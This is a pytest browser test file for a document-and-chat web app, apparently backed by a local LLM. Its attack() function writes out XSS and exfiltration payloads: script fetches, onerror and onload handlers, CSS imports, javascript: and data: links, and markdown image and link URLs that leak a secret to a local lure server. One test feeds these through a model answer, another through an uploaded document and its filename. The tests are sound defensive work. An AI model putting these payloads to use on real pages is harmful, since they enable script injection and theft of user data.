"""A hostile document and a hostile answer try to run script, fetch a picture and leak by a link.

Their lure stands on this machine, where Chromium may go: what asks it for anything has got through.
"""

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING
from urllib.parse import quote

import httpx
import pytest

from tests.browser.conftest import Writer, ask, finished, visit

if TYPE_CHECKING:
    from playwright.sync_api import Page

WORDS = "A senha do cofre é 4711"


class Lure:
    """A server that remembers every path it was asked for."""

    def __init__(self) -> None:
        asked = self.asked = list[str]()

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                asked.append(self.path)
                self.send_response(200)
                self.end_headers()

            do_POST = do_GET

            def log_message(self, *_told: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"

    def __enter__(self) -> "Lure":
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *_told: object) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="module")
def lure() -> Iterator[Lure]:
    with Lure() as running:
        yield running


def attack(url: str) -> str:
    """Everything at once that a page could fall for."""
    return f"""{WORDS}.

<script>fetch("{url}/script"); window.taken = 1</script>
<img src="{url}/img" onerror="window.taken = 1"><svg onload="window.taken = 1"></svg>
<iframe src="{url}/frame"></iframe><form action="{url}/form"><button>Enviar</button></form>
<link rel="stylesheet" href="{url}/css"><meta http-equiv="refresh" content="0;url={url}/meta">
<style>@import url("{url}/import"); p {{ background: url("{url}/background") }}</style>

![figura]({url}/picture?{quote(WORDS)}) ![ref][r] [ver mais]({url}/link?{quote(WORDS)})
[clique](javascript:window.taken=1) [dados](data:text/html,<script>window.taken=1</script>)
<{url}/auto> {url}/bare ::before{{content:url({url}/content)}} :material/home: :red[x] $\\href{{{url}/tex}}{{x}}$

[r]: {url}/reference "título"
"""


def untouched(page: "Page", lure: Lure) -> None:
    """Nobody was called, nothing ran, and nothing on the page leads there."""
    page.wait_for_load_state("networkidle")
    assert lure.asked == []
    assert page.evaluate("window.taken") is None
    assert (
        page.locator(f"[href*='{lure.url}'], [src*='{lure.url}'], [action*='{lure.url}']").count()
        == 0
    )
    assert page.locator("a[href^='javascript:'], a[href^='data:text']").count() == 0


@pytest.fixture
def page_(opened: "Page") -> "Page":
    opened.on("dialog", lambda box: pytest.fail(box.message))
    return opened


def test_an_answer_that_attacks_is_shown_as_words(
    writer: Writer, page_: "Page", lure: Lure
) -> None:
    before = writer.ollama.says, writer.ollama.pause
    writer.ollama.says, writer.ollama.pause = attack(lure.url), 0.0
    try:
        visit(page_, f"{writer.url}/chat")
        turn = finished(ask(page_, f"Qual é o prazo de troca? {attack(lure.url)[:300]}"))
        turn.get_by_text(WORDS).first.wait_for()
        untouched(page_, lure)
        visit(page_, page_.url)  # read back from the database, it is no less tame
        page_.get_by_text(WORDS).first.wait_for()
        untouched(page_, lure)
    finally:
        writer.ollama.says, writer.ollama.pause = before


@pytest.mark.parametrize("kind", ["md", "html"])
def test_a_document_that_attacks_is_shown_as_words(
    writer: Writer, page_: "Page", lure: Lure, kind: str
) -> None:
    text = attack(lure.url)
    data = {
        "md": f"# Cofre\n\n{text}",
        "html": f"<html><body><h1>Cofre</h1><p>{text}</p></body></html>",
    }[kind]
    name = f"<img src={lure.url}/name onerror=window.taken=1>.{kind}"
    url = f"{writer.url}/api/v1/documents"
    sent = httpx.post(url, files={"file": (name, data.encode())}, timeout=60)
    row = sent.json()["data"][0]
    try:
        for _again in range(200):
            if httpx.get(f"{url}/{row['id']}").json()["state"] == "ready":
                break
            page_.wait_for_timeout(100)
        for address in ("documents", f"documents?document={row['id']}", "overview"):
            visit(page_, f"{writer.url}/{address.removeprefix('overview')}")
            untouched(page_, lure)
        visit(page_, f"{writer.url}/documents?q=cofre")
        untouched(page_, lure)
        visit(page_, f"{writer.url}/chat")
        turn = finished(ask(page_, "Qual é a senha do cofre?"))
        turn.locator(".source").first.click()
        page_.get_by_role("dialog").get_by_text(WORDS).first.wait_for()
        untouched(page_, lure)
    finally:
        httpx.delete(f"{url}/{row['id']}")
